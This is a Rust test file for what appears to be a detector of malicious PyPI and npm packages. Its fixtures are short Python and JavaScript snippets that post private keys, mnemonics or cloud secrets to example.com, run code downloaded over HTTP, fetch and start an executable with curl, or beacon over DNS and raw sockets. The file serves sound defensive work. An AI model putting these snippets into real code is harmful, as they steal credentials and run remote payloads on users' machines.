//! What a person sees in the bytes and the sequence has to say: each sense with code that bears it and code that only looks
//! like it, in both languages where both have it.

use cerebro::behavior::{Reading, Step, extract};
use cerebro::package::{Ecosystem, Package, Phase};
use rstest::rstest;

use super::{entry, npm, package, pypi};

/// The steps of a package of one file and of the name `mypackage`.
fn named(path: &str, source: &str) -> Vec<Step> {
    let files = [(path, source)];
    let package = if path.ends_with(".py") { pypi(&files) } else { npm(&files) };
    let package = Package { name: Some("my-package".to_owned()), ..package };
    extract(&package, &Reading::default()).sequence.steps
}

fn details(steps: &[Step]) -> Vec<&str> {
    steps.iter().map(|step| step.detail.as_str()).collect()
}

#[rstest]
#[case::key("def f(private_key):\n    requests.post('https://example.com', data=private_key)", "send secret", true)]
#[case::key_in_set(
    "def f(private_key):\n    requests.post('https://example.com', {'k', private_key})",
    "send secret",
    true
)]
#[case::words("def f(mnemonic):\n    requests.post('https://example.com', json={'a': mnemonic})", "send secret", true)]
#[case::by_entry("def f(x):\n    requests.post('https://example.com', json={'private_key': x})", "send secret", true)]
#[case::public("def f(public_key):\n    requests.post('https://example.com', data=public_key)", "send secret", false)]
#[case::monkey("def f(monkey):\n    requests.post('https://example.com', data=monkey)", "send secret", false)]
#[case::kept("def f(private_key):\n    open('a', 'w').write(private_key)", "send secret", false)]
#[case::password_is_no_key(
    "def f(password):\n    requests.post('https://example.com', json={'p': password})",
    "send secret",
    false
)]
#[case::header(
    "requests.get('https://example.com', headers={'Authorization': 'Bearer ' + os.environ['A_TOKEN']})",
    "send login",
    true
)]
#[case::header_is_no_secret(
    "requests.get('https://example.com', headers={'Authorization': 'Bearer ' + os.environ['A_TOKEN']})",
    "send secret",
    false
)]
#[case::other_header(
    "requests.get('https://example.com', headers={'X-Data': os.environ['A_TOKEN']})",
    "send secret",
    true
)]
#[case::body(
    "requests.post('https://example.com', json={'authorization': os.environ['A_TOKEN']})",
    "send secret",
    true
)]
#[case::answer_is_no_secret(
    "r = requests.get('https://example.com', auth=('a', os.environ['A_TOKEN']))\nrequests.post('https://example.com/b', data=r.text)",
    "send secret",
    false
)]
#[case::mail_login(
    "import smtplib\ns = smtplib.SMTP('smtp.example.com')\ns.login('a', os.environ['MAIL_PASSWORD'])\ns.sendmail('a', 'b', 'c')",
    "send secret",
    false
)]
#[case::mail(
    "import smtplib\ns = smtplib.SMTP('smtp.example.com')\ns.sendmail('a', 'b', os.environ['AWS_SECRET_ACCESS_KEY'])",
    "send secret",
    true
)]
#[case::own_name("socket.gethostbyname('my_package.a.lib.dev')", "dns query other own name", true)]
#[case::own_name_of_more("socket.gethostbyname(f'{x}.mypackage.a.lib.dev')", "dns query other own name", true)]
#[case::own_domain("socket.gethostbyname('api.my-package.dev')", "own name", false)]
#[case::own_name_url("requests.get('https://my-package.a.lib.dev/x')", "http get other own name", true)]
#[case::own_service("requests.get('https://my-package.lib.dev/x')", "own name", false)]
#[case::own_path("requests.get('https://a.lib.dev/my-package')", "own name", false)]
#[case::constant_host("socket.gethostbyname('a.lib.dev')", "dns query other", true)]
#[case::constant_peer("s = socket.socket()\ns.connect(('a.lib.top', 4444))", "socket connect cheap", true)]
#[case::any_host("def f(host):\n    socket.gethostbyname(host)", "dns query", true)]
#[case::no_host("socket.gethostbyname('localhost')", "dns query other", false)]
#[case::program(
    "a = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'",
    "base64 program",
    true
)]
#[case::hex_program("a = '4d5a90000300000004000000ffff0000b800000000000000400000'", "hex program", true)]
#[case::data(
    "a = 'gRqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'",
    "base64 data",
    true
)]
#[case::installs("os.system(f'{sys.executable} -m pip install a')", "shell python install package", true)]
#[case::installs_format(
    "os.system('{} -m pip install a'.format(sys.executable))",
    "shell python install package",
    true
)]
#[case::installs_percent("os.system('%s -m pip install a' % sys.executable)", "shell python install package", true)]
#[case::pinged("subprocess.run(['ping', '-c', '1', socket.gethostbyname(x)])", "run downloaded program", false)]
#[case::run("os.system(requests.get('https://example.com').text)", "run downloaded program", true)]
#[case::run_by_shell(
    "subprocess.run(['bash', '-c', requests.get('https://example.com').text])",
    "run downloaded program",
    true
)]
#[case::quoted("os.system('\"curl.exe -OLJ https://example.com/a.exe\"')", "shell curl", true)]
#[case::started_later(
    "os.system('curl -o a.exe https://example.com/a.exe')\nos.system('start a.exe')",
    "run downloaded program",
    true
)]
#[case::started_by_name(
    "os.system('curl -OL https://example.com/a.exe')\nos.system('a.exe')",
    "run downloaded program",
    true
)]
#[case::deleted_later(
    "os.system('curl -o a.exe https://example.com/a.exe')\nos.system('del a.exe')",
    "run downloaded program",
    false
)]
#[case::start_program("os.system('start a.exe')", "shell start program", true)]
#[case::proof("os.system('calc.exe')", "shell calc", true)]
#[case::elevation(
    "k = r'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'\nv = 'EnableLUA'",
    "elevation",
    true
)]
#[case::notice("print('This is a proof of concept for bug bounty research')", "research notice", true)]
#[case::no_notice("print('Search the concept of a bounty')", "research notice", false)]
#[case::mock_host("requests.post('https://abc.mockapi.io/a', data=x)", "http post mock api", true)]
#[case::not_mock("requests.post('https://hammockapi.dev/a', data=x)", "http post other", true)]
#[case::dynamic_name("requests.get('http://abc.freemyip.com/a')", "http get tunnel", true)]
fn in_python(#[case] source: &str, #[case] detail: &str, #[case] expected: bool) {
    let steps = named("a.py", &format!("import os, sys, socket, subprocess, requests\n{source}"));
    assert_eq!(
        details(&steps).contains(&detail) || !expected && details(&steps).iter().any(|d| d.contains(detail)),
        expected,
        "{steps:#?}"
    );
}

#[rstest]
#[case::key("function f(privateKey) { axios.post('https://example.com', { a: privateKey }) }", "send secret", true)]
#[case::by_entry("function f(x) { axios.post('https://example.com', { mnemonic: x }) }", "send secret", true)]
#[case::public("function f(publicKey) { axios.post('https://example.com', { a: publicKey }) }", "send secret", false)]
#[case::header(
    "axios.get('https://example.com', { headers: { Authorization: `Bearer ${process.env.A_TOKEN}` } })",
    "send login",
    true
)]
#[case::header_is_no_secret(
    "fetch('https://example.com', { headers: { Authorization: process.env.A_TOKEN } })",
    "send secret",
    false
)]
#[case::body("fetch('https://example.com', { method: 'POST', body: process.env.A_TOKEN })", "send secret", true)]
#[case::mail_login(
    "const m = require('nodemailer'); const t = m.createTransport({ auth: { user: 'a', pass: process.env.MAIL_PASSWORD } }); t.sendMail({ text: 'x' })",
    "send secret",
    false
)]
#[case::own_name("require('dns').lookup('my-package.a.lib.dev', () => {})", "dns query other own name", true)]
#[case::own_name_by_manifest(
    "require('dns').lookup(`${process.argv0}.my-package.a.lib.dev`, () => {})",
    "dns query other own name",
    true
)]
#[case::own_name_options("require('https').get({ hostname: 'my-package.a.lib.dev', path: '/' })", "own name", true)]
#[case::own_domain("require('dns').lookup('www.my-package.dev', () => {})", "own name", false)]
#[case::books_of_commands(
    "const { Client } = require('discord.js'); const fs = require('fs'); const c = new Client(); for (const f of fs.readdirSync('./c')) { const k = require(`./c/${f}`); c.commands.set(k.name, k) }",
    "send file",
    false
)]
fn in_javascript(#[case] source: &str, #[case] detail: &str, #[case] expected: bool) {
    let steps = named("a.js", &format!("const axios = require('axios');\n{source}"));
    assert_eq!(details(&steps).iter().any(|known| known.contains(detail)), expected, "{steps:#?}");
}

/// What the author asks `setup.py` for is no part of an installation; what an installation asks for is.
#[rstest]
#[case::publish("if sys.argv[-1] == 'publish':\n    os.system('whoami')", Phase::Run)]
#[case::in_arguments("if 'upload' in sys.argv:\n    os.system('whoami')", Phase::Run)]
#[case::one_of("if sys.argv[-1] in ('tag', 'publish'):\n    os.system('whoami')", Phase::Run)]
#[case::install("if sys.argv[1] == 'install':\n    os.system('whoami')", Phase::Install)]
#[case::either("if sys.argv[1] == 'install' or sys.argv[1] == 'test':\n    os.system('whoami')", Phase::Install)]
#[case::otherwise("if sys.argv[-1] == 'publish':\n    pass\nelse:\n    os.system('whoami')", Phase::Install)]
#[case::not_asked("if sys.argv[-1] != 'publish':\n    os.system('whoami')", Phase::Install)]
#[case::always("os.system('whoami')", Phase::Install)]
#[case::upload_command(
    "class C:\n    def run(self):\n        os.system('whoami')\nsetup(cmdclass={'upload': C})",
    Phase::Run
)]
#[case::install_command(
    "class C:\n    def run(self):\n        os.system('whoami')\nsetup(cmdclass={'install': C})",
    Phase::Install
)]
#[case::own_command(
    "class C:\n    def run(self):\n        os.system('whoami')\nsetup(cmdclass={'gather': C})",
    Phase::Run
)]
#[case::build_command(
    "class C:\n    def run(self):\n        os.system('whoami')\nsetup(cmdclass={'egg_info': C})",
    Phase::Install
)]
fn a_helper_of_the_authors_is_not_installation(#[case] source: &str, #[case] phase: Phase) {
    let source = format!("import os, sys\nfrom setuptools import setup\n{source}");
    let files = [("setup.py", source.as_str())];
    let package = package(Ecosystem::Pypi, &files, vec![entry(Phase::Install, "setup.py", 0)]);
    let steps = extract(&package, &Reading::default()).sequence.steps;
    let found: Vec<Phase> = steps.iter().filter(|s| s.detail == "shell whoami").map(|s| s.phase).collect();
    assert_eq!(found, [phase], "{steps:#?}");
}
